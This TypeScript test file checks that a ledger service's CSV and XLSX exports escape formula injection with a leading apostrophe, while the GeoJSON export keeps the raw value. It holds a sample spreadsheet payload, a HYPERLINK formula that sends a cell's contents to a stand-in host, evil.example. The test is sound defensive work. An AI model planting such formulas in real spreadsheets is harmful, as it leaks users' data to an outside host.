import { expect, test } from "vitest";
import type { Item } from "#domain/item.ts";
import { ask, serve } from "../serve.ts";
import { parseCsv, tableOf } from "./parse-csv.ts";
import { readXlsx, tableOfSheet } from "./read-xlsx.ts";

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"口岸")';

test("a record that begins like a formula is text in the file, and itself in GeoJSON", async () => {
  const served = await serve();
  const { write } = served.ledger.database;
  const row = await write
    .selectFrom("item_text as t")
    .innerJoin("item_version as v", "v.id", "t.version_id")
    .select(["t.version_id", "t.record"])
    .where("v.item_id", "=", "S-1.4-15")
    .executeTakeFirstOrThrow();
  const item = JSON.parse(row.record) as Item;
  const record = JSON.stringify({ ...item, title: FORMULA, note: "-2+3\r\n@x" });
  await write.updateTable("item_text").set({ record }).where("version_id", "=", row.version_id).execute();

  const csv = await ask(`${served.url}/export/ledger.csv`);
  const found = tableOf(parseCsv(csv.text)).find((one) => one.编号 === "S-1.4-15");
  expect(found).toMatchObject({ 事项: `'${FORMULA}`, 备注: "'-2+3\r\n@x" });
  const sheets = await readXlsx((await ask(`${served.url}/export/ledger.xlsx`)).body);
  expect(sheets.flatMap((sheet) => tableOfSheet(sheet)).find((one) => one.编号 === "S-1.4-15")).toMatchObject(
    {
      事项: `'${FORMULA}`,
      备注: expect.stringMatching(/^'-2\+3\s+@x$/),
    },
  );
  const cells = sheets.flatMap((sheet) => sheet.rows.flat());
  expect(cells.filter((cell) => cell?.type === "formula")).toEqual([]);
  const geojson = JSON.parse((await ask(`${served.url}/export/ledger.geojson`)).text) as {
    features: { id: string; properties: { title: string } }[];
  };
  expect(geojson.features.find((one) => one.id === "S-1.4-15")?.properties.title).toBe(FORMULA);
  await served.stop();
});
